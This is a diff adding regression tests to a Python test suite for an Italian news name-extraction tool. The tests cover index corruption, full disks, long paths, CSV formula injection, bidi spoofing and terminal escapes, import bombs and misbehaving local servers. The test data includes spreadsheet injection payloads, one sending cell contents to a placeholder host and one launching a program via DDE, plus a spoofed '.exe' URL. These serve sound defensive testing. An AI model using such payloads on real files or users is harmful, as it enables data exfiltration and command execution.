@@ -12,9 +12,11 @@ UTF-8, symlink loops, hostile imports, brat pairs, small ones, permissions).
 
 from __future__ import annotations
 
+import contextlib
 import errno
 import json
 import os
+import socket
 import stat
 import sys
 import threading
@@ -49,7 +51,7 @@ class Ctx:
 
     def run(self, *argv) -> tuple[int, str, str]:
         args = [os.fsdecode(a) if isinstance(a, bytes) else str(a) for a in argv]
-        if args and args[0] == "export":
+        if args and args[0] in ("export", "people"):
             args += ["--model", str(self.model)]
         code = main(args)
         out, err = self.capsys.readouterr()
@@ -869,6 +871,635 @@ def case_legacy_encoded_article_is_read(c: Ctx):
     assert "città" in json.loads(out)["text"]
 
 
+# == issue 27: round three ==============================================================
+# Each class of the report is a group of rows (item "27.N"); the helpers come first.
+
+def csv_cells(out: str) -> list[list[str]]:
+    import csv
+    import io
+
+    return list(csv.reader(io.StringIO(out)))
+
+
+# -- 27.1, 27.2 and 27.3 the library index: damaged, locked, unwritable ----------------------
+
+OTHER = "Marco Rubio ha parlato con Trump a Washington. Rubio ha detto che Lavrov sbaglia.\n"
+
+
+def _people(c: Ctx, *extra) -> tuple[int, list[str], str]:
+    """``personae people`` of the two articles: (exit status, the names listed, stderr)."""
+    code, out, err = c.run("people", c.article(), c.article("other.txt", OTHER),
+                           "--format", "json", *extra)
+    return code, sorted(p["name"] for p in json.loads(out)) if out.strip() else [], err
+
+
+def _index_file() -> Path:
+    [db] = (Path(os.environ["PERSONAE_CACHE_DIR"]) / "index").glob("library-*.sqlite")
+    return db
+
+
+def _sql(db: Path, *statements: str) -> None:
+    import sqlite3
+
+    con = sqlite3.connect(db, isolation_level=None)
+    for st in statements:
+        con.execute(st)
+    con.close()
+
+
+def _patch_bytes(db: Path) -> None:
+    import random
+
+    rng = random.Random(27)
+    data = bytearray(db.read_bytes())
+    for _ in range(50):
+        at = rng.randrange(100, len(data) - 16)
+        data[at:at + 16] = rng.randbytes(16)
+    db.write_bytes(bytes(data))
+
+
+def _folder_for(db: Path, suffix: str = "") -> None:
+    target = Path(str(db) + suffix)
+    target.unlink(missing_ok=True)
+    target.mkdir()
+    (target / "x").write_text("x", encoding="utf-8")
+
+
+INDEX_DAMAGE = {  # set aside and rebuilt
+    "50 random 16-byte patches": _patch_bytes,
+    "a table of another shape": lambda db: _sql(db, "DROP TABLE article",
+                                                "CREATE TABLE article(x, y)"),
+    "a dropped table": lambda db: _sql(db, "DROP TABLE person"),
+    "bad JSON in the roles column": lambda db: _sql(
+        db, "UPDATE person SET roles = '{not json'", "UPDATE entity SET roles = '[{'"),
+    "wrong types in a row": lambda db: _sql(db, "UPDATE person SET roles = 5, summary = 7"),
+    "a folder in place of the file": _folder_for,
+    "a folder where its -wal goes": lambda db: _folder_for(db, "-wal"),
+}
+
+
+def damaged_index(name: str) -> Callable[[Ctx], None]:
+    def case(c: Ctx):
+        code, before, err = _people(c)
+        assert code == 0 and len(before) >= 3, err
+        db = _index_file()
+        INDEX_DAMAGE[name](db)
+        code, after, err = _people(c)
+        assert code == 0, err
+        assert after == before   # never a shorter list
+        [line] = one_line_errors(err, 1)
+        assert "set aside" in line
+        assert list(db.parent.glob(db.name + ".damaged-*"))
+        code, again, err = _people(c)  # rebuilt: the next run reads it as it is
+        assert (code, again, err) == (0, before, "")
+    case.__name__ = "case_damaged_index_is_set_aside_and_rebuilt-" + name.replace(
+        " ", "_").replace(",", "")
+    return case
+
+
+def _file_in_place(p: Path) -> Path:
+    p.write_text("not a folder", encoding="utf-8")
+    return p
+
+
+def _loop(p: Path) -> Path:
+    p.symlink_to(p)
+    return p
+
+
+def _dangling(p: Path) -> Path:
+    p.symlink_to(p.parent / "nowhere" / "cache")
+    return p
+
+
+UNUSABLE_CACHE = {  # the index cannot be kept: counted in memory, said, exit 1
+    "the cache folder a regular file": _file_in_place,
+    "the cache folder a symlink loop": _loop,
+    "the cache folder a dangling symlink": _dangling,
+    "index/ a regular file": lambda p: (p.mkdir(), _file_in_place(p / "index"))[1].parent,
+}
+
+
+def unusable_cache(name: str) -> Callable[[Ctx], None]:
+    def case(c: Ctx):
+        code, before, err = _people(c)
+        assert code == 0, err
+        c.monkeypatch.setenv("PERSONAE_CACHE_DIR", str(UNUSABLE_CACHE[name](c.tmp / "bad")))
+        code, after, err = _people(c)
+        assert code == 1, err
+        assert after == before
+        [line] = one_line_errors(err, 1)
+        assert "in memory" in line
+    case.__name__ = "case_unusable_cache_counts_in_memory-" + name.replace(" ", "_").replace(
+        "/", "")
+    return case
+
+
+def case_locked_index_is_waited_for_then_counted_in_memory(c: Ctx):
+    import sqlite3
+
+    from tui.store import index
+
+    code, before, err = _people(c)
+    assert code == 0, err
+    db = _index_file()
+    c.monkeypatch.setattr(index, "LOCK_WAIT", 0.3, raising=False)
+    holder = sqlite3.connect(db, isolation_level=None)  # another process, as far as SQLite knows
+    holder.execute("PRAGMA locking_mode = EXCLUSIVE")
+    holder.execute("BEGIN EXCLUSIVE")
+    try:
+        code, after, err = _people(c)
+    finally:
+        holder.execute("ROLLBACK")
+        holder.close()
+    assert code == 0, err
+    assert after == before
+    [line] = one_line_errors(err, 1)
+    assert "in use" in line
+    con = sqlite3.connect(db)  # the index was left as it was: every article still analysed
+    assert con.execute("SELECT count(*), sum(analysed) FROM article").fetchone() == (2, 2)
+    con.close()
+
+
+def case_read_only_cache_counts_in_memory(c: Ctx):
+    code, before, err = _people(c)
+    assert code == 0, err
+    cache = c.tmp / "ro-cache"
+    cache.mkdir()
+    cache.chmod(0o555)
+    c.monkeypatch.setenv("PERSONAE_CACHE_DIR", str(cache))
+    out = c.tmp / "people.json"
+    code, err = as_unprivileged(["people", str(c.tmp / "good.txt"), str(c.tmp / "other.txt"),
+                                 "--format", "json", "-o", str(out), "--model", str(c.model)])
+    cache.chmod(0o755)
+    assert code == 1, err
+    [line] = one_line_errors(err, 1)
+    assert "in memory" in line
+    assert sorted(p["name"] for p in json.loads(out.read_text(encoding="utf-8"))) == before
+
+
+def case_full_cache_disk_counts_in_memory(c: Ctx):
+    import resource
+    import signal
+    import subprocess
+
+    code, before, err = _people(c)
+    assert code == 0, err
+    c.monkeypatch.setenv("PERSONAE_CACHE_DIR", str(c.tmp / "full-cache"))
+
+    def full_disk():  # no file may grow: every write to the cache fails, as on a full disk
+        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+        resource.setrlimit(resource.RLIMIT_FSIZE, (0, 0))
+
+    run = subprocess.run([sys.executable, "-m", "tui", "people", c.tmp / "good.txt",
+                          c.tmp / "other.txt", "--format", "json", "--model", c.model],
+                         cwd=Path(__file__).resolve().parent.parent, capture_output=True,
+                         text=True, timeout=120, preexec_fn=full_disk)
+    assert run.returncode == 1, run.stderr
+    [line] = one_line_errors(run.stderr, 1)
+    assert "cannot be" in line and "in memory" in line
+    assert sorted(p["name"] for p in json.loads(run.stdout)) == before
+
+
+# -- 27.3 full and closed standard output ----------------------------------------------------
+
+def _personae(argv: list, stdout: str) -> tuple[int, str]:
+    """``python -m tui ARGV`` in a child process with its standard output on /dev/full
+    ("full") or closed ("closed"): (exit status, stderr). A child, because what goes
+    wrong comes at the interpreter's exit too (its last flush of standard output)."""
+    import subprocess
+
+    root = Path(__file__).resolve().parent.parent
+    args = [sys.executable, "-m", "tui", *[str(a) for a in argv]]
+    if stdout == "full":
+        with open("/dev/full", "w") as full:
+            run = subprocess.run(args, cwd=root, stdout=full, stderr=subprocess.PIPE,
+                                 text=True, timeout=120)
+    else:
+        run = subprocess.run(args, cwd=root, stderr=subprocess.PIPE, text=True, timeout=120,
+                             preexec_fn=lambda: os.close(1))
+    return run.returncode, run.stderr
+
+
+def case_full_or_closed_standard_output_is_one_line(c: Ctx):
+    src = write_json(c.tmp / "d.json", document())
+    model = ["--model", c.model]
+    for argv, stdout in ((["import", src, "--format", "csv", "-o", "-"], "full"),
+                         (["export", c.article(), "--format", "jsonl", "-o", "-", *model], "full"),
+                         (["people", c.article(), "--format", "csv", *model], "closed")):
+        code, err = _personae(argv, stdout)
+        assert code == 1, (argv[0], stdout, err)
+        [line] = one_line_errors(err, 1)
+        assert "standard output" in line, line
+
+
+# -- 27.4 long names ------------------------------------------------------------------------
+
+def case_stem_of_230_bytes_exports_beside_it(c: Ctx):
+    stem = "s" * 230
+    src = c.article(stem + ".txt")
+    code, _o, err = c.run("export", src, "--format", "json", "-o", f"{c.tmp / 'out'}/")
+    assert code == 0, err
+    assert json.loads((c.tmp / "out" / f"{stem}.json").read_text(encoding="utf-8"))["text"]
+    code, _o, err = c.run("export", src, "--format", "brat", "-o", c.tmp / "out" / f"{stem}.ann")
+    assert code == 0, err
+    assert (c.tmp / "out" / f"{stem}.ann").is_file() and (c.tmp / "out" / f"{stem}.txt").is_file()
+
+
+def case_output_name_of_245_bytes_is_written(c: Ctx):
+    out = c.tmp / ("x" * 240 + ".json")
+    code, _o, err = c.run("export", c.article(), "--format", "json", "-o", out)
+    assert code == 0, err
+    assert json.loads(out.read_text(encoding="utf-8"))["schema"] == "personae/1"
+    assert [p.name for p in c.tmp.iterdir() if p.name.endswith(".tmp")] == []
+
+
+def case_names_the_system_refuses_are_one_line(c: Ctx):
+    past_path_max = str(c.tmp / "/".join(["d" * 200] * 25) / "a.txt")  # 5,000 bytes
+    too_long = str(c.tmp / ("n" * 300 + ".txt"))  # one name past 255 bytes
+    good = c.article()
+    src = write_json(c.tmp / "d.json", document())
+    for argv in (["export", past_path_max, "--format", "json", "-o", c.tmp / "o.json"],
+                 ["export", too_long, "--format", "json", "-o", c.tmp / "o.json"],
+                 ["export", good, "--format", "json", "-o", past_path_max],
+                 ["export", good, "--format", "json", "-o", c.tmp / ("n" * 300 + ".json")],
+                 ["import", past_path_max, "--format", "csv", "-o", "-"],
+                 ["import", src, "--format", "csv", "-o", past_path_max],
+                 ["people", past_path_max, "--format", "csv"],
+                 ["people", good, "--format", "csv", "-o", past_path_max]):
+        code, _o, err = c.run(*argv)
+        assert code == 1, (argv[:2], err)
+        [line] = one_line_errors(err, 1)
+        assert "too long" in line, line
+
+
+# -- 27.5 formulas in the CSV export -----------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://x.test/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1",
+            "-2+3", "@SUM(A1:A9)"]
+
+
+def case_formula_names_are_written_as_text_in_csv(c: Ctx):
+    for formula in FORMULAS:
+        src = write_json(c.tmp / "f.json", document(name=formula))
+        code, out, err = c.run("import", src, "--format", "csv", "-o", "-")
+        assert code == 0, err
+        [name] = [row[2] for row in csv_cells(out)[1:] if row[1] == "PER"]
+        assert name == "'" + formula, (formula, out)
+        assert not any(cell.startswith(("=", "+", "-", "@")) for row in csv_cells(out)
+                       for cell in row), out
+
+
+# -- 27.6 escapes and bidi controls through URLs ------------------------------------------
+
+BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
+
+
+def no_bidi(s: str) -> None:
+    assert not any(ch in s for ch in BIDI), repr(s)
+
+
+def case_saved_page_with_escapes_in_its_url_exports_clean(c: Ctx):
+    library = _own_library(c)
+    library.mkdir(parents=True)
+    page = library / "lavrov.txt"
+    page.write_text(GOOD, encoding="utf-8")
+    url = f"https://news.test/esteri/{OSC0}lavrov\u202e\u2066txt.exe"
+    write_json(library / "lavrov.txt.json", {"url": url, "final_url": url, "title": f"T{OSC52}",
+                                             "fetched": "2026-01-01T00:00:00+00:00"})
+    for fmt in ("html", "json", "jsonl", "labelstudio", "doccano"):
+        code, out, err = c.run("export", page, "--format", fmt, "-o", "-")
+        assert code == 0, f"{fmt}: {err}"
+        no_escapes(out)
+        no_bidi(out)
+        assert "pwned" not in out, fmt
+    data = json.loads(c.run("export", page, "--format", "json", "-o", "-")[1])
+    assert data["source"]["url"] == "https://news.test/esteri/lavrovtxt.exe"
+
+
+def case_feed_link_with_escapes_is_cleaned(c: Ctx):
+    from tui.sources.feeds import parse_feed
+
+    link = f"https://news.test/a{OSC0}\u202eb c"
+    rss = ("<rss version='2.0'><channel><title>Feed</title><item><title>A</title>"
+           f"<link>{link}</link></item></channel></rss>").encode()
+    [item] = parse_feed(rss, "https://news.test/feed.xml").items
+    no_escapes(item.link)
+    no_bidi(item.link)
+    assert item.link == "https://news.test/ab%20c"
+
+
+# -- 27.7 bombs and quadratic imports -----------------------------------------------------
+
+class Budget:
+    """Counts units of work and fails the test as soon as they pass the budget (so the
+    quadratic code of before fails quickly instead of running for minutes)."""
+
+    def __init__(self, limit: int) -> None:
+        self.limit, self.used = limit, 0
+
+    def spend(self) -> None:
+        self.used += 1
+        if self.used > self.limit:
+            raise AssertionError(f"more than {self.limit} steps: not O(n log n)")
+
+
+def case_overlap_check_does_n_log_n_work(c: Ctx):
+    from tui.document import Mention, non_overlapping
+
+    budget = Budget(0)
+
+    class Counted(Mention):
+        def __getattribute__(self, name):
+            if name in ("start", "end"):
+                budget.spend()
+            return object.__getattribute__(self, name)
+
+    n = 4000  # nested and crossing spans, as another tool's file may have
+    spans = [Counted(f"m{i}", 3 * i, 3 * i + 2 + (i % 5), "x", "PER") for i in range(n)]
+    budget.limit = 20 * n
+    kept = non_overlapping(spans)
+    assert [(m.start, m.end) for m in kept] == sorted((m.start, m.end) for m in kept)
+    assert all(a.end <= b.start for a, b in zip(kept, kept[1:], strict=False))
+    assert len(kept) > n // 2
+
+
+def case_token_cuts_do_linear_work(c: Ctx):
+    from tui.document import Annotations, Mention
+    from tui.export.common import split_tokens
+
+    budget = Budget(0)
+
+    class Offset(int):  # each comparison of a mention's offset is one unit of work
+        def __lt__(self, other):
+            budget.spend()
+            return int(self) < other
+
+        def __gt__(self, other):
+            budget.spend()
+            return int(self) > other
+
+        def __le__(self, other):
+            budget.spend()
+            return int(self) <= other
+
+        def __ge__(self, other):
+            budget.spend()
+            return int(self) >= other
+
+        __hash__ = int.__hash__
+
+    words = 20_000  # "Mario Rossi " again and again, every fifth a mention
+    text = "Mario Rossi " * (words // 2)
+    tokens = [(12 * (i // 2) + (6 if i % 2 else 0), 12 * (i // 2) + (11 if i % 2 else 5))
+              for i in range(words)]
+    mentions = [Mention(f"m{k}", Offset(60 * k), Offset(60 * k + 11), "Mario Rossi", "PER")
+                for k in range(words // 10)]
+    ann = Annotations(text=text, mentions=mentions, tokens=tokens)
+    budget.limit = 50 * (words + 2 * len(mentions))
+    out = split_tokens(ann)
+    assert len(out) == words
+
+
+def case_relabelling_a_long_article_does_linear_work(c: Ctx):
+    import spacy
+
+    from tui.nlp.ner import relabel
+
+    if relabel.model() is None:
+        pytest.skip("the span relabeller's weights are not installed")
+    budget = Budget(0)
+
+    class Piece(tuple):  # (doc, offset): each time a piece is unpacked is one unit of work
+        def __iter__(self):
+            budget.spend()
+            return super().__iter__()
+
+    nlp = spacy.blank("it")
+    paragraph = "Mario Rossi parla a Roma.\n\n"
+    n = 400  # an article of 400 paragraphs, one name in each
+    text = paragraph * n
+    docs = [Piece((nlp(paragraph.strip()), k * len(paragraph))) for k in range(n)]
+    spans = [(k * len(paragraph), k * len(paragraph) + 11, "PER") for k in range(n)]
+    budget.limit = 20 * n
+    out = relabel.relabel(text, spans, docs)
+    assert len(out) == n
+
+
+def _docbin_bytes(words: int) -> bytes:
+    from spacy.tokens import Doc, DocBin
+    from spacy.vocab import Vocab
+
+    db = DocBin()
+    db.add(Doc(Vocab(), words=["parola"] * words))
+    return db.to_bytes()
+
+
+IMPORT_BOMBS = {
+    # name: (file name, what it holds, the bound lowered for the test, to what)
+    "DocBin that inflates past the bound": (
+        "bomb.spacy", lambda: _docbin_bytes(20_000), "MAX_IMPORT_EXPANDED", 64 * 1024),
+    "JSON of many empty objects": (
+        "many.json", lambda: json.dumps({**document(), "x": [{}] * 5000}).encode(),
+        "MAX_IMPORT_ITEMS", 1000),
+    "jsonl line with too many spans": (
+        "spans.jsonl", lambda: (json.dumps({"text": "Mario Rossi. " * 300, "spans": [
+            {"start": 13 * i, "end": 13 * i + 11, "label": "PER"} for i in range(300)]})
+            + "\n").encode(),
+        "MAX_IMPORT_SPANS", 100),
+    "brat file with too many mentions": (
+        "many.ann", lambda: "".join(f"T{i + 1}\tPER {13 * i} {13 * i + 11}\tMario Rossi\n"
+                                    for i in range(300)).encode(),
+        "MAX_IMPORT_SPANS", 100),
+}
+
+
+def import_bomb(name: str) -> Callable[[Ctx], None]:
+    def case(c: Ctx):
+        from tui.export import common
+
+        file_name, make, bound, value = IMPORT_BOMBS[name]
+        c.monkeypatch.setattr(common, bound, value, raising=False)
+        src = c.tmp / file_name
+        src.write_bytes(make())
+        (c.tmp / "many.txt").write_text("Mario Rossi. " * 300, encoding="utf-8")
+        code, _o, err = c.run("import", src, "--format", "csv", "-o", c.tmp / "out.csv")
+        assert code == 1, f"{code} {err}"
+        [line] = one_line_errors(err, 1)
+        assert "refused" in line, line
+        assert not (c.tmp / "out.csv").exists()
+    case.__name__ = "case_import_bomb_is_refused_in_one_line-" + name.replace(" ", "_").replace(
+        ",", "")
+    return case
+
+
+# -- 27.9 and 27.10 the web: local servers on 127.0.0.1 only ------------------------------
+
+@contextlib.contextmanager
+def local_server(respond: Callable[[socket.socket, threading.Event], None]):
+    """A web server on 127.0.0.1 that answers every request with ``respond(conn, stop)``
+    (raw bytes: it may lie about lengths or send a byte at a time); yields its base URL."""
+    srv = socket.create_server(("127.0.0.1", 0))
+    srv.settimeout(0.1)
+    stop = threading.Event()
+
+    def one(conn: socket.socket) -> None:
+        with conn:
+            conn.settimeout(10)
+            data = b""
+            try:
+                while b"\r\n\r\n" not in data:
+                    chunk = conn.recv(4096)
+                    if not chunk:
+                        return
+                    data += chunk
+                respond(conn, stop)
+            except OSError:
+                pass
+
+    def loop() -> None:
+        while not stop.is_set():
+            try:
+                conn, _addr = srv.accept()
+            except OSError:
+                continue
+            threading.Thread(target=one, args=(conn,), daemon=True).start()
+
+    t = threading.Thread(target=loop, daemon=True)
+    t.start()
+    try:
+        yield f"http://127.0.0.1:{srv.getsockname()[1]}"
+    finally:
+        stop.set()
+        t.join(5)
+        srv.close()
+
+
+def _own_library(c: Ctx) -> Path:
+    c.monkeypatch.setenv("PERSONAE_DATA_DIR", str(c.tmp / "data"))
+    return c.tmp / "data" / "library"
+
+
+def case_page_cut_short_is_an_error_and_not_saved(c: Ctx):
+    library = _own_library(c)
+    body = GOOD.encode("utf-8")
+
+    def respond(conn, _stop):
+        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain; charset=utf-8\r\n"
+                     b"Content-Length: 100000\r\n\r\n" + body)  # then closes: 100000 promised
+
+    with local_server(respond) as base:
+        code, _o, err = c.run("export", f"{base}/esteri/lavrov.txt", "--format", "json",
+                              "-o", c.tmp / "o.json")
+    assert code == 1, err
+    [line] = one_line_errors(err, 1)
+    assert "cut short" in line
+    assert not (c.tmp / "o.json").exists()
+    assert not library.exists() or not list(library.iterdir())
+
+
+def case_bad_url_literals_are_one_line_and_bad_usage(c: Ctx):
+    for url in ("http://[::1/a", "http://x]/a", "https://[zz::1]/a"):
+        code, _o, err = c.run("export", url, "--format", "json", "-o", c.tmp / "o.json")
+        assert code == 2, (url, err)
+        [line] = one_line_errors(err, 1)
+        assert "not a valid URL" in line
+
+
+def case_redirect_to_ftp_is_not_followed(c: Ctx):
+    library = _own_library(c)
+    ftp = socket.create_server(("127.0.0.1", 0))  # where the redirect points: nobody may call
+    port = ftp.getsockname()[1]
+
+    def respond(conn, _stop):
+        conn.sendall(f"HTTP/1.1 302 Found\r\nLocation: ftp://127.0.0.1:{port}/a.txt\r\n"
+                     "Content-Length: 0\r\n\r\n".encode())
+
+    try:
+        with local_server(respond) as base:
+            code, _o, err = c.run("export", f"{base}/a", "--format", "json", "-o",
+                                  c.tmp / "o.json")
+        ftp.setblocking(False)
+        with pytest.raises(BlockingIOError):  # no connection is waiting on the FTP port
+            ftp.accept()
+    finally:
+        ftp.close()
+    assert code == 1, err
+    [line] = one_line_errors(err, 1)
+    assert "ftp" in line and "only http and https" in line
+    assert not library.exists() or not list(library.iterdir())
+
+
+def case_headers_sent_a_byte_at_a_time_hit_the_deadline(c: Ctx):
+    from tui.sources import fetch
+
+    _own_library(c)
+    c.monkeypatch.setattr(fetch, "DEADLINE", 1.0)  # the 60 s of the real limit, shortened
+
+    sent: dict = {}
+
+    def respond(conn, stop):
+        head = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n" + b"X-Slow: " + b"a" * 200
+        for byte in head:  # 0.1 s a byte: the headers alone would take 25 s
+            if stop.is_set():
+                return
+            conn.sendall(bytes([byte]))
+            stop.wait(0.1)
+        sent["all"] = True  # the client waited for every byte of the headers
+
+    with local_server(respond) as base:
+        code, _o, err = c.run("export", f"{base}/slow", "--format", "json", "-o",
+                              c.tmp / "o.json")
+    assert code == 1, err
+    [line] = one_line_errors(err, 1)
+    assert "timed out" in line
+    assert "all" not in sent  # cut off at the deadline, not when the server was done
+
+
+# -- 27.12 configuration that breaks every article ----------------------------------------
+
+def case_lexicon_line_without_words_is_skipped_and_named(c: Ctx):
+    config = c.tmp / "config"
+    config.mkdir()
+    (config / "places_it.tsv").write_text("Lerici\tof Lerici\n'\tof nowhere\n",
+                                          encoding="utf-8")
+    (config / "roles_it.tsv").write_text("'\tapostrophe\n", encoding="utf-8")
+    _fresh_lexicon(c, config)
+    try:
+        code, _o, err = c.run("export", c.article(), "--format", "json", "-o", c.tmp / "o.json")
+        assert code == 0, err
+        assert "places_it.tsv line 2" in err and "roles_it.tsv line 1" in err, err
+        data = json.loads((c.tmp / "o.json").read_text(encoding="utf-8"))
+        assert any(e["name"] == "Serghei Lavrov" for e in data["entities"])
+    finally:
+        _reset_lexicon()
+
+
+PEOPLE_DECISIONS_DAMAGE = {
+    "operations a number": '{"version": 1, "ops": 7}',
+    "nested 100,000 deep": '{"version": 1, "ops": ' + "[" * 100_000 + "]" * 100_000 + "}",
+    "a list of strings": '["merge", "split"]',
+}
+
+
+def damaged_people_decisions(name: str) -> Callable[[Ctx], None]:
+    def case(c: Ctx):
+        from tui.store import people_links
+
+        p = people_links.path()
+        p.parent.mkdir(parents=True, exist_ok=True)
+        p.write_text(PEOPLE_DECISIONS_DAMAGE[name], encoding="utf-8")
+        code, out, err = c.run("people", c.article(), "--format", "json")
+        assert code == 0, err
+        one_line_errors(err, 1)
+        assert "kept as" in err
+        assert any(person["name"] == "Serghei Lavrov" for person in json.loads(out))
+        [kept] = list(p.parent.glob("people.damaged-*.json"))
+        assert kept.read_text(encoding="utf-8") == PEOPLE_DECISIONS_DAMAGE[name]
+    case.__name__ = "case_damaged_people_decisions_are_set_aside-" + name.replace(" ", "_")
+    return case
+
+
 @dataclass(frozen=True)
 class Case:
     item: str
@@ -920,6 +1551,28 @@ CASES = [Case(item, fn.__name__.removeprefix("case_"), fn) for item, fn in [
     ("13", case_brat_label_with_a_newline_reads_back),
     ("15.14", case_import_jsonl_to_ann_beside_it),
     ("15.14", case_brat_import_still_refuses_to_overwrite_its_own_txt),
+    *[("27.1", damaged_index(name)) for name in INDEX_DAMAGE],
+    *[("27.1", unusable_cache(name)) for name in UNUSABLE_CACHE],
+    ("27.2", case_locked_index_is_waited_for_then_counted_in_memory),
+    ("27.3", case_read_only_cache_counts_in_memory),
+    ("27.3", case_full_cache_disk_counts_in_memory),
+    ("27.3", case_full_or_closed_standard_output_is_one_line),
+    ("27.4", case_stem_of_230_bytes_exports_beside_it),
+    ("27.4", case_output_name_of_245_bytes_is_written),
+    ("27.4", case_names_the_system_refuses_are_one_line),
+    ("27.5", case_formula_names_are_written_as_text_in_csv),
+    ("27.6", case_saved_page_with_escapes_in_its_url_exports_clean),
+    ("27.6", case_feed_link_with_escapes_is_cleaned),
+    ("27.7", case_overlap_check_does_n_log_n_work),
+    *[("27.7", import_bomb(name)) for name in IMPORT_BOMBS],
+    ("27.8", case_token_cuts_do_linear_work),
+    ("27.8", case_relabelling_a_long_article_does_linear_work),
+    ("27.9", case_page_cut_short_is_an_error_and_not_saved),
+    ("27.9", case_bad_url_literals_are_one_line_and_bad_usage),
+    ("27.10", case_redirect_to_ftp_is_not_followed),
+    ("27.10", case_headers_sent_a_byte_at_a_time_hit_the_deadline),
+    ("27.12", case_lexicon_line_without_words_is_skipped_and_named),
+    *[("27.12", damaged_people_decisions(name)) for name in PEOPLE_DECISIONS_DAMAGE],
     ("held", case_binary_input_is_one_line),
     ("held", case_escapes_inside_an_article_are_removed),
     ("held", case_read_only_output_folder_is_one_line),
@@ -1070,3 +1723,105 @@ async def test_export_dialog_does_not_wait_on_a_fifo_nobody_reads(tmp_path, own_
         assert app.screen is dialog
         assert "nothing reads this pipe" in str(dialog.query_one("#export-message").render())
     assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
+
+
+# == issue 27.11: the reader ==============================================================
+
+async def test_reader_starts_with_a_settings_file_nested_100000_deep(tmp_path, own_config):
+    from tui.app import settings
+    from tui.app.main import PersonaeApp, open_paths
+
+    settings.path().parent.mkdir(parents=True, exist_ok=True)
+    settings.path().write_text('{"theme": ' + "[" * 100_000 + "]" * 100_000 + "}",
+                               encoding="utf-8")
+    assert settings.load() == {}
+    src = write_json(tmp_path / "doc.json", document())
+    app = PersonaeApp(open_paths([src]))
+    async with app.run_test(size=(100, 30)) as pilot:
+        await _analysed(pilot, app)
+        assert not [n for n in app.said if n.severity == "error"]
+
+
+def _silent_server():
+    """A server that takes the request and never answers (an unreachable feed, as far
+    as the reader can tell), recording when the client goes away."""
+    gone = threading.Event()
+
+    def respond(conn, stop):
+        conn.settimeout(0.2)
+        while not stop.is_set():
+            try:
+                if conn.recv(1) == b"":
+                    break
+            except TimeoutError:
+                continue
+            except OSError:
+                break
+        gone.set()
+
+    return local_server(respond), gone
+
+
+def _library(tmp_path, monkeypatch, n: int) -> list[Path]:
+    from tui.sources import fetch
+
+    monkeypatch.setattr(fetch, "TIMEOUT", 120.0)    # the server would hold every fetch a while
+    monkeypatch.setattr(fetch, "DEADLINE", 600.0)
+    monkeypatch.setenv("PERSONAE_DATA_DIR", str(tmp_path / "data"))
+    arts = [tmp_path / f"a{i}.txt" for i in range(n)]
+    for i, p in enumerate(arts):
+        p.write_text(f"Articolo {i}\n\n" + GOOD, encoding="utf-8")
+    return arts
+
+
+async def test_library_rows_show_while_feeds_load(tmp_path, own_config, monkeypatch):
+    from tui.app.main import PersonaeApp, open_paths
+
+    arts = _library(tmp_path, monkeypatch, 30)
+    server, _gone = _silent_server()
+    with server as base:
+        app = PersonaeApp(open_paths(arts, [f"{base}/feed{i}.xml" for i in range(5)]))
+        async with app.run_test(size=(100, 24)) as pilot:
+            await pilot.pause(0.5)
+            table = app.screen.query_one("#library")
+            assert table.row_count == 30
+            # the articles' rows are shown while five feeds load, not the header alone
+            assert table.size.height >= 5, table.size
+            await pilot.press("q")
+
+
+async def test_quit_cuts_short_the_feeds_still_loading(tmp_path, own_config, monkeypatch):
+    from tui.app.main import PersonaeApp, open_paths
+
+    arts = _library(tmp_path, monkeypatch, 2)
+    server, gone = _silent_server()
+    with server as base:
+        app = PersonaeApp(open_paths(arts, [f"{base}/feed.xml"]))
+        async with app.run_test(size=(100, 40)) as pilot:
+            await pilot.pause(0.5)
+            assert not gone.is_set()  # the feed is loading
+            await pilot.press("q")
+        assert gone.wait(30), "the feed's fetch still held its connection after quitting"
+
+
+async def test_library_says_a_damaged_index_was_set_aside(tmp_path, tiny_nlp_path, cache_dir,
+                                                          own_config):
+    from tui.app.main import PersonaeApp, open_paths
+
+    arts = [tmp_path / "good.txt", tmp_path / "other.txt"]
+    arts[0].write_text(GOOD, encoding="utf-8")
+    arts[1].write_text(OTHER, encoding="utf-8")
+    assert main(["people", *map(str, arts), "--format", "json", "-o", str(tmp_path / "p.json"),
+                 "--model", str(tiny_nlp_path)]) == 0
+    _sql(_index_file(), "DROP TABLE person")
+    app = PersonaeApp(open_paths(arts), model=str(tiny_nlp_path))
+    async with app.run_test(size=(100, 30)) as pilot:
+        for _ in range(400):
+            said = [n.message for n in app.said]
+            if any("set aside" in m for m in said) or app.screen.index_ready:
+                break
+            await pilot.pause(0.05)
+        await pilot.pause()
+        said = [n.message for n in app.said]
+        assert any("set aside" in m for m in said), said
+        assert sorted(app.screen.people) == [0, 1] and min(app.screen.people.values()) > 0
